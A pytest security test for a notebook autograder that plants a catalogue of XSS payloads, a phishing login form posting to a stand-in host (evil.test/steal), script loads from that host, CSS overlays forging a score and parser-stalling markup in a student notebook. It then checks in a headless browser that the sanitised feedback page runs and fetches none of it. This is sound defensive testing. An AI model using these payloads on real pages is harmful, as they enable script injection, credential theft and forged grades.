"""A feedback page built from a hostile notebook, opened in Chromium.

One student hands in perceptrons_xor's blank notebook with everything a
student can put into markdown, raw cells and outputs to run script on the
page of whoever opens it, send it elsewhere, or draw a score over the real
one.  The notebook is graded and its feedback page written as for any
student; then the page is opened from its folder (file://) and from a web
server, as students and instructors open them, and we record what ran (a
function every attack calls, the console, dialogs), every request and
navigation, and what lies over the scores.
"""

import shutil
import textwrap

import nbformat
import pytest
from book_browser import serve
from conftest import ROOT

from autograder.__main__ import main

NAME = "perceptrons_xor"
STUDENT = "attacker"
FAKE = "Your score: 15 of 15 points"
#: The function every attack calls if it runs (exposed by the test).
REPORT = "reportRan"
EVIL = "http://evil.test"


def markdown_attacks(evil_js, evil_html):
    """(name, markdown) pairs; each attack calls reportRan('<name>') if it runs."""
    r = lambda name: f"{REPORT}('{name}')"  # noqa: E731
    return [
        ("inline script", f"<script>{r('inline')}</script>"),
        ("script src=file:", f'<script src="{evil_js.as_uri()}"></script>'),
        ("script src=http:", f'<script src="{EVIL}/evil.js"></script>'),
        ("onerror", f'<img src="x" onerror="{r("onerror")}">'),
        ("onload", f'<body onload="{r("body-onload")}"><svg onload="{r("svg-onload")}"></svg>'),
        ("ontoggle", f'<details open ontoggle="{r("ontoggle")}"><summary>s</summary>d</details>'),
        ("onfocus", f'<input autofocus onfocus="{r("onfocus")}">'),
        ("onmouseover", f'<p onmouseover="{r("onmouseover")}">hover me</p>'),
        ("javascript: link", f'<a href="javascript:{r("js-link")}">click me 1</a>'),
        ("markdown javascript: link", f"[click me 2](javascript:{r('md-js-link')})"),
        ("svg script", f"<svg><script>{r('svg-script')}</script></svg>"),
        ("mathml script", f"<math><mtext><script>{r('mathml')}</script></mtext></math>"),
        ("mutation XSS", f'<noscript><p title="</noscript><img src=x onerror={r("mxss")}>"></noscript>'),
        ("iframe", f'<iframe src="{EVIL}/frame"></iframe>'
                   f'<iframe srcdoc="<script>parent.{r("srcdoc")}</script>"></iframe>'),
        ("object and embed", f'<object data="{evil_html.as_uri()}"></object>'
                             f'<embed src="{evil_html.as_uri()}">'),
        ("meta refresh", f'<meta http-equiv="refresh" content="0; url={EVIL}/phish">'),
        ("base", f'<base href="{EVIL}/">'),
        ("form", f'<form action="{EVIL}/steal"><input name="password">'
                 f'<button>Log in to see your grade</button></form>'),
        ("stylesheet and tracking pixel", f'<link rel="stylesheet" href="{EVIL}/x.css">'
                                          f'<img src="{EVIL}/pixel.png" alt="pixel">'),
        ("style tag", "<style>.scoreboard, header { display: none !important } "
                      f"body::before {{ content: '{FAKE}' }}</style>"),
        ("fixed box", '<div style="position:fixed; top:0; left:0; right:0; height:600px; '
                      f'background:#fff; z-index:99999; font-size:40px">{FAKE}</div>'),
        ("page's classes", f'<div class="scoreboard"><h1>{FAKE}</h1></div>'),
        ("MathJax \\href", f"$\\href{{javascript:{r('mj-href')}}}{{\\text{{click me 3}}}}$"),
        ("MathJax \\style", f"$\\style{{position:fixed;top:0;left:0;font-size:40px}}{{\\text{{{FAKE}}}}}$"),
        ("MathJax \\require{html}",
         f"$\\require{{html}}\\style{{position:fixed;top:0;left:0}}{{\\text{{{FAKE}}}}}$"),
        ("missing attachment", "![a picture](attachment:missing.png)"),  # nbconvert refused the page
        ("MathJax \\raise", f"$\\raise{{150em}}{{\\Huge\\text{{{FAKE}}}}}$"),
    ]


#: A code cell the kernel runs: outputs of every kind that could carry script.
OUTPUTS_CELL = textwrap.dedent(f"""\
    from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
    display(HTML("<script>{REPORT}('html-out')</script><img src=x onerror={REPORT}('html-out-onerror')>"
                 "<b>bold output</b>"))
    display(Javascript("{REPORT}('js-out')"))
    display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="{REPORT}(1)" width="20" height="20">'
                '<script>{REPORT}("svg-out")</script><rect width="20" height="20"/></svg>'))
    display(Markdown("<img src=x onerror={REPORT}('md-out')> **markdown output**"))
    display(HTML("<script>{REPORT}('isolated')</script>"), metadata={{"isolated": True}})
    display(Latex(r"$\\href{{javascript:{REPORT}('latex-out')}}{{\\text{{click me 4}}}}$"))
    display(HTML('<div style="position:fixed;top:0;left:0;right:0;height:600px;background:#fff;'
                 'z-index:99999;font-size:40px">{FAKE}</div>'))
""")

#: The student's own math, which must still be typeset.
MATH_CELL = "## My notes\n\nMy math: $\\alpha_{\\mathrm{mine}}^2 + \\beta$ and $$\\sum_{i=1}^{n} x_i^2$$"


@pytest.fixture(scope="module")
def feedback(tmp_path_factory):
    """Grade the hostile notebook and write its feedback page."""
    from autograder.course import Course
    from autograder.grade import grade

    tmp = tmp_path_factory.mktemp("feedback-safety")
    evil_js, evil_html = tmp / "evil.js", tmp / "evil.html"
    evil_js.write_text(f"{REPORT}('file-script');")
    evil_html.write_text(f"<script>parent.{REPORT}('file-html')</script>")
    folder = tmp / "submissions" / STUDENT / NAME
    shutil.copytree(ROOT / "tests" / "submissions" / NAME / "blank" / NAME, folder)
    path = folder / f"{NAME}.ipynb"
    nb = nbformat.read(path, as_version=4)
    cells = [nbformat.v4.new_markdown_cell(MATH_CELL)]
    cells += [nbformat.v4.new_markdown_cell(f"### {name}\n\n{source}")
              for name, source in markdown_attacks(evil_js, evil_html)]
    cells.append(nbformat.v4.new_code_cell(OUTPUTS_CELL))
    cells.append(nbformat.v4.new_raw_cell(
        f"<script>{REPORT}('raw')</script><img src=x onerror={REPORT}('raw-onerror')>",
        metadata={"raw_mimetype": "text/html"}))
    nb.cells[1:1] = cells  # after the title, before the first part
    nbformat.write(nb, path)

    work = tmp / "work"
    course = Course(ROOT, work=work, cell_timeout=60)
    (row,) = grade(NAME, tmp / "submissions", course=course)
    assert row.status == "ok" and row.score == 0, row
    assert main(["feedback", NAME, "--work", str(work)]) == 0
    page = work / "feedback" / STUDENT / NAME / f"{NAME}.html"
    html = page.read_text()
    # the attacks reached the page's source: the code ran and the outputs are there
    assert "bold output" in html and "markdown output" in html and "My notes" in html
    return work / "feedback", page


def settle(page):
    """Wait until the page has made no request for half a second and has
    painted twice: by then anything it loaded, or a handler it triggered,
    has run (or was blocked)."""
    page.wait_for_load_state("networkidle")
    page.evaluate("() => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))")


def open_page(chromium, url, shot=None):
    """Open ``url``, let MathJax finish, hover and click what a reader might;
    return what happened."""
    context = chromium.new_context(viewport={"width": 1280, "height": 900})
    ran, console, dialogs, requests, navigations = [], [], [], [], []
    context.expose_function(REPORT, lambda name: ran.append(name))

    def evil(route):
        requests.append(route.request.url)
        body = f"{REPORT}('served:{route.request.url}')"
        route.fulfill(status=200, body=body, content_type="text/javascript")

    context.route(f"{EVIL}/**", evil)
    page = context.new_page()
    page.on("console", lambda m: console.append(m.text))
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("request", lambda r: requests.append(r.url))
    page.on("framenavigated", lambda f: navigations.append(f.url) if f == page.main_frame else None)
    page.goto(url)
    try:  # MathJax typesets (unless the page went elsewhere)
        page.wait_for_function("() => window.MathJax?.startup?.promise", timeout=15_000)
        page.evaluate("() => MathJax.startup.promise")
    except Exception as error:  # noqa: BLE001 - recorded, the tests say what failed
        console.append(f"MathJax did not start: {error}")
    settle(page)  # whatever the page loads or schedules has happened
    for text in ["hover me", "click me 1", "click me 2", "click me 3", "click me 4"]:
        for element in page.get_by_text(text).all():
            try:
                element.hover(timeout=2000)
                element.click(timeout=2000, no_wait_after=True)
            except Exception:  # hidden or covered: a reader could not click it either
                pass
    settle(page)
    page.evaluate("() => new Promise(done => { window.scrollTo(0, 0); "
                  "requestAnimationFrame(() => requestAnimationFrame(done)); })")
    state = page.evaluate("""() => {
        const header = document.querySelector('header.scoreboard');
        const box = header ? header.getBoundingClientRect() : null;
        const covered = [];
        if (box) {
            for (let x = box.left + 5; x < box.right; x += 40)
                for (let y = box.top + 5; y < box.bottom; y += 20) {
                    const hit = document.elementFromPoint(x, y);
                    if (!hit || !header.contains(hit))
                        covered.push([x, y, hit ? hit.outerHTML.slice(0, 80) : null]);
                }
        }
        const notes = [...document.querySelectorAll('.text_cell')]
            .find(c => c.textContent.includes('My notes'));
        return {
            url: location.href,
            header: header ? header.innerText : null,
            headerVisible: !!box && box.height > 50 && getComputedStyle(header).display !== 'none',
            scoreboards: document.querySelectorAll('.scoreboard').length,
            covered: covered,
            frames: document.querySelectorAll('iframe, frame, object, embed').length,
            forms: document.forms.length + document.querySelectorAll('input, button, textarea').length,
            bases: document.querySelectorAll('base').length,
            styled: [...document.querySelectorAll('.notebook [style]')].filter(
                e => !e.closest('mjx-container')).length,
            studentMath: notes ? notes.querySelectorAll('mjx-container').length : -1,
            studentText: notes ? notes.innerText : '',
            exerciseMath: document.querySelectorAll('mjx-container').length,
        };
    }""")
    if shot:
        shot.parent.mkdir(parents=True, exist_ok=True)
        page.screenshot(path=str(shot))
        notes = page.get_by_text("My notes")
        if notes.count():
            notes.first.scroll_into_view_if_needed()
            page.screenshot(path=str(shot.with_name(shot.stem + "-cells.png")))
    context.close()
    return dict(state, ran=ran, console=console, dialogs=dialogs, requests=requests,
                navigations=navigations)


@pytest.fixture(scope="module", params=["file", "server"])
def opened(request, feedback, chromium):
    folder, page = feedback
    shot = ROOT / "test-artifacts" / "feedback" / f"attacks-{request.param}.png"
    if request.param == "file":
        return open_page(chromium, page.as_uri(), shot), page.as_uri()
    (folder / "index.html").write_text("<!DOCTYPE html><title>feedback</title>")
    with serve(folder) as url:
        address = url + page.relative_to(folder).as_posix()
        return open_page(chromium, address, shot), address


@pytest.mark.grading
def test_no_script_a_student_wrote_runs(opened):
    state, _ = opened
    assert state["ran"] == [], state["ran"]
    assert state["dialogs"] == []
    assert not [line for line in state["console"] if REPORT in line and "violates" not in line]


@pytest.mark.grading
def test_the_page_goes_nowhere_and_fetches_nothing_from_elsewhere(opened):
    state, url = opened
    assert state["url"] == url and set(state["navigations"]) <= {url}, state["navigations"]
    base = url.rsplit("/", 3)[0] + "/"  # the feedback folder: the page and _mathjax/
    assert [r for r in state["requests"] if not r.startswith(base)] == []
    assert state["frames"] == 0 and state["forms"] == 0 and state["bases"] == 0


@pytest.mark.grading
def test_the_real_score_shows_and_nothing_covers_it(opened):
    state, _ = opened
    assert state["headerVisible"], state
    assert "Your score: 0 of 15 points" in state["header"] and FAKE not in state["header"]
    assert state["scoreboards"] == 1  # a student's class="scoreboard" is dropped
    assert state["covered"] == [], state["covered"][:5]
    assert state["styled"] == 0  # no style attribute of a student's survives


@pytest.mark.grading
def test_the_students_math_is_still_typeset(opened):
    state, _ = opened
    assert state["studentMath"] == 2, state["studentText"]
    assert "$" not in state["studentText"] and "\\alpha" not in state["studentText"]
    assert state["exerciseMath"] > 10  # the exercise's own formulas too


@pytest.mark.grading
def test_the_page_source_keeps_no_attack(feedback):
    """What the sanitiser leaves, read without a browser."""
    from bs4 import BeautifulSoup

    _, page = feedback
    soup = BeautifulSoup(page.read_text(), "html.parser")
    main_part = soup.find("main")
    assert main_part.find_all(["script", "style", "iframe", "object", "embed", "form", "input",
                               "meta", "base", "link", "svg", "math"]) == []
    for tag in main_part.find_all(True):
        assert not any(a.startswith("on") or a == "style" for a in tag.attrs), tag
        for attribute in ("href", "src"):
            value = tag.get(attribute, "")
            assert not value.lower().startswith(("javascript:", "file:", EVIL)), tag


def test_a_students_long_markdown_is_cut_before_it_is_rendered():
    """nbconvert's Markdown renderer takes time growing with the square of a
    text's length on unclosed math (43 s for 100,000 characters of ``\\\\[``):
    one notebook could stall the feedback of everyone after it.  Each text is
    cut to MARKDOWN_CHARS_PER_TEXT, the page's to MARKDOWN_CHARS_PER_PAGE,
    with a note in the page's language; an exercise's text is untouched."""
    from autograder.feedback import (
        MARKDOWN_CHARS_PER_PAGE,
        MARKDOWN_CHARS_PER_TEXT,
        _bounded_student_text,
    )

    bomb = "\\\\[" * 33_333
    output = nbformat.v4.new_output("display_data", data={"text/markdown": bomb,
                                                          "text/plain": "<Markdown>"})
    cells = [nbformat.v4.new_markdown_cell("## Part 1\n\nshort text $x^2$")]
    cells += [nbformat.v4.new_markdown_cell(bomb) for _ in range(12)]
    cells += [nbformat.v4.new_code_cell("display(Markdown(...))", outputs=[output])]
    nb = nbformat.v4.new_notebook(cells=cells)
    _bounded_student_text(nb, "ko")
    texts = [c.source for c in nb.cells if c.cell_type == "markdown"]
    texts.append(nb.cells[-1].outputs[0].data["text/markdown"])
    assert texts[0] == "## Part 1\n\nshort text $x^2$"
    kept = [len(t.split("\n\n(")[0]) for t in texts[1:]]
    assert max(kept) == MARKDOWN_CHARS_PER_TEXT
    assert sum(kept) == MARKDOWN_CHARS_PER_PAGE - len(texts[0])
    assert kept[-1] == 0 and "자는 보여 주지 않는다" in texts[-1]


def test_a_students_deeply_nested_html_is_not_drawn():
    """The HTML cleaner takes time growing with the square of how deeply
    tags nest: one output of 200,000 nested divs held the feedback run 4
    minutes 41 s.  An HTML output or raw cell nested deeper than
    HTML_MAX_DEPTH is replaced by a note, one longer than
    HTML_CHARS_PER_OUTPUT is cut, and a table as pandas draws it is kept."""
    import time

    from autograder.feedback import HTML_CHARS_PER_OUTPUT, HTML_MAX_DEPTH, _bounded_student_text, clean_html

    def html_output(markup):
        return nbformat.v4.new_output("display_data", data={"text/html": markup, "text/plain": "<HTML>"})

    table = ("<table border=\"1\" class=\"dataframe\"><thead><tr><th></th><th>a</th></tr></thead><tbody>"
             + "".join(f"<tr><th>{i}</th><td>{i * 0.5}<br/></td></tr>" for i in range(50))
             + "</tbody></table>")
    deep, long_flat = "<div>" * 200_000 + "z", "<b>x</b>" * 30_000
    cells = [nbformat.v4.new_code_cell("display(HTML(...))",
                                       outputs=[html_output(deep), html_output(table),
                                                html_output(long_flat),
                                                html_output(["<div>" * 150, "</div>" * 150])]),
             nbformat.v4.new_raw_cell("<span>" * (HTML_MAX_DEPTH + 1))]
    nb = nbformat.v4.new_notebook(cells=cells)
    started = time.monotonic()
    _bounded_student_text(nb, "en")
    shown = [o.data["text/html"] for o in nb.cells[0].outputs] + [nb.cells[1].source]
    for markup in shown:
        clean_html(markup)
    assert time.monotonic() - started < 5
    assert shown[0] == shown[4] == (f"<p>(an HTML output nested more than {HTML_MAX_DEPTH} levels "
                                    "deep: not shown)</p>")
    assert shown[1] == table
    assert shown[2].startswith(long_flat[:HTML_CHARS_PER_OUTPUT]) and \
        shown[2].endswith(f"({len(long_flat) - HTML_CHARS_PER_OUTPUT} more characters not shown)</p>")
    assert shown[3] == "<div>" * 150 + "</div>" * 150
    # What a parser nests though the tags look closed: a stray closing tag
    # closes nothing, and <div/> opens a div.
    from autograder.feedback import html_depth

    for tricked in ("<div/>" * 5000, "<div></x>" * 5000, "<div></b>" * 5000):
        assert html_depth(tricked) == 5000
    assert html_depth("<p>a<br>b<img src=x></p><p>c</p>") == 1
